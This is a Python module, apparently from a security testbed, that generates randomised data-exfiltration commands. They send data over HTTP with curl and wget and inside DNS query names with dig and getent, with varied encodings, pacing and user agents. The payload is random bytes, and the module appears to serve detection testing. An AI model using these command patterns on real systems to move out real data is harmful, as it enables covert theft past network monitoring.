"""Data that leave by HTTP and in names, in one piece or in small ones, at once or slowly."""

from testbed.attacks.material import INSIDE, blob, drop, maybe, pause, program, serving, text, user_agent, words, zone
from testbed.attacks.tunnels import through_names
from testbed.catalogue import Assault, attack

PLAIN = "T1048.003"


def pieces(c, send: str, low: float = 0.1, high: float = 2.5) -> str:
    """Sends `$size` bytes again and again, not always the same."""
    size = c.typical(60_000, 0.9, 400_000)
    return (
        f"RANDOM={c.between(1, 32767)}; for piece in $(seq {c.between(3, 12)}); do size=$(({size} + RANDOM *"
        f" {c.choose(0, 1, 2)})); {send}; {pause(c.between(low, high), c.choose(0, 0.3))}; done"
    )


def web(c) -> tuple[str, dict, str]:
    """Where to send by HTTP: an address, the fields of the `Assault`, and options of curl."""
    end = drop(c, c.choose("http", "https", "https"))
    path = c.choose("/up", "/upload", "/api/log", "/index.php", f"/{c.between(1, 10**8):x}", "/collect")
    options = words(
        f"-sk -m 15 -A '{user_agent(c)}' -o /dev/null",
        maybe(c, 0.4, "--http1.1"),
        maybe(c, 0.3, f"--limit-rate {c.between(15, 200)}k"),
    )
    return end.url + path, end.assault, options


@attack("exfil_http", technique=PLAIN, tool="curl PUT", origins=INSIDE, packages=("curl",), seconds=40)
def curl_put(c):
    url, fields, options = web(c)
    return Assault(pieces(c, f"head -c $size /dev/urandom | curl {options} -T - {url}/$piece"), **fields)


@attack("exfil_http", technique=PLAIN, tool="curl POST", origins=INSIDE, packages=("curl",), seconds=40)
def curl_post(c):
    url, fields, options = web(c)
    encode = c.choose("base64 -w0", "gzip", "od -An -v -tx1 | tr -d ' \\n'", "openssl enc -aes-256-cbc -pbkdf2 -k x")
    return Assault(
        pieces(c, f"head -c $size /dev/urandom | {encode} | curl {options} --data-binary @- {url}"), **fields
    )


@attack("exfil_http", technique=PLAIN, tool="curl form", origins=INSIDE, packages=("curl",), seconds=40)
def curl_form_upload(c):
    url, fields, options = web(c)
    name = c.choose("file", "f", "document", "photo")
    return Assault(
        pieces(c, f"head -c $size /dev/urandom > taken; curl {options} -F '{name}=@taken' -F id=$piece {url}"), **fields
    )


@attack("exfil_http", technique=PLAIN, tool="wget", origins=INSIDE, packages=("wget",), seconds=40)
def wget_post(c):
    url, fields, _ = web(c)
    return Assault(
        pieces(
            c,
            "head -c $size /dev/urandom > taken; wget -q -T 10 -t 1 --no-check-certificate -U"
            f" '{user_agent(c)}' --post-file=taken -O /dev/null {url}",
        ),
        **fields,
    )


@attack("exfil_http", technique=PLAIN, tool="curl cookies", origins=INSIDE, packages=("curl",), seconds=60)
def in_headers(c):
    url, fields, options = web(c)
    place = c.choose('-b "s=$part"', '-H "X-Trace: $part"', '-G -d "q=$part"')
    return Assault(
        f"for piece in $(seq {c.between(20, 70)}); do part=$({text(c.between(200, 3000))} | tr '+/=' '-_.');"
        f" curl {options} {place} {url}; {pause(c.between(0.1, 0.8))}; done",
        **fields,
    )


def in_names(c, command) -> Assault:
    """Sends data inside names of a zone of the attacker's; `command` makes the command of the zone."""
    name, port = zone(c)
    server = program("zone.py", "--zone", name, "--port", port, "--seed", c.between(1, 10**6))
    return Assault(command(name), evidence=through_names(name), **serving(name, port, server, c))


@attack(
    "exfil_dns",
    technique=PLAIN,
    tool="dig",
    origins=INSIDE,
    needs=("dns", "outside:zones"),
    packages=("bind9-dnsutils",),
    seconds=70,
)
def dig_away(c):
    kind = c.choose("A", "TXT", "CNAME", "AAAA")
    return in_names(
        c,
        lambda name: f"count=0; {blob(c.between(600, 2500))} | od -An -v -tx1 -w{c.choose(12, 20, 30)} | tr -d ' ' |"
        f" while read part; do count=$((count + 1)); dig {kind} $part.$count.{name} +short +tries=1 +time=2;"
        f" {pause(c.between(0.0, 0.6))}; done",
    )


@attack(
    "exfil_dns",
    technique=PLAIN,
    tool="names.py",
    origins=INSIDE,
    needs=("dns", "outside:zones"),
    packages=("python3",),
    seconds=80,
)
def names_away(c):
    return in_names(
        c,
        lambda name: program(
            "names.py",
            "--zone",
            name,
            "--server",
            c.network.resolver,
            "--bytes",
            c.between(800, 5000),
            "--label",
            c.between(16, 63),
            "--labels",
            c.between(1, 3),
            "--type",
            c.choose("A", "AAAA", "TXT", "MX", "NULL"),
            "--pause",
            c.between(0.02, 0.7),
            "--seed",
            c.between(1, 10**6),
        ),
    )


@attack(
    "exfil_dns",
    technique=PLAIN,
    tool="getent",
    origins=INSIDE,
    needs=("dns", "outside:zones"),
    packages=("libc-bin",),
    seconds=70,
)
def getent_away(c):
    return in_names(
        c,
        lambda name: f"{blob(c.between(400, 1500))} | base64 -w{c.between(16, 60)} | tr '+/=' 'xyz' | while read part;"
        f" do getent ahostsv4 $part.{name}; {pause(c.between(0.0, 0.7))}; done",
    )
